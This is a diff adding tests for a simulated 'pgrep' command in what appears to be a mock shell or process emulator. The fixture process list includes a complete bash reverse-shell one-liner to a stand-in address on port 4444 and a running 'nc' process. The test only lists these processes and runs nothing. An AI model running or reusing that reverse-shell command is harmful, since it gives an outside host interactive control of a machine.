@@ -62,3 +62,16 @@ describe('pkill and killall', () => {
     expect(run(killallTool, ['killall', 'n'])).toEqual({ stdout: '', stderr: 'n: no process found\n', exitCode: 1 });
   });
 });
+
+describe('pgrep', () => {
+  it('lists matching pids, names or command lines', async () => {
+    const { pgrepTool } = await import('./pkill');
+    expect(run(pgrepTool, ['pgrep', 'bash']).stdout).toBe('22710\n22711\n22713\n');
+    expect(run(pgrepTool, ['pgrep', '-l', '^nc$']).stdout).toBe('22719 nc\n');
+    expect(run(pgrepTool, ['pgrep', '-af', '/dev/tcp']).stdout).toBe(
+      "22710 bash -c bash -c 'bash -i >& /dev/tcp/198.51.100.23/4444 0>&1' & sleep 3600\n" +
+      '22711 bash -c bash -i >& /dev/tcp/198.51.100.23/4444 0>&1\n');
+    expect(run(pgrepTool, ['pgrep', '-c', '-u', 'deploy']).stdout).toBe('6\n');
+    expect(run(pgrepTool, ['pgrep', 'nosuch'])).toEqual({ stdout: '', stderr: '', exitCode: 1 });
+  });
+});
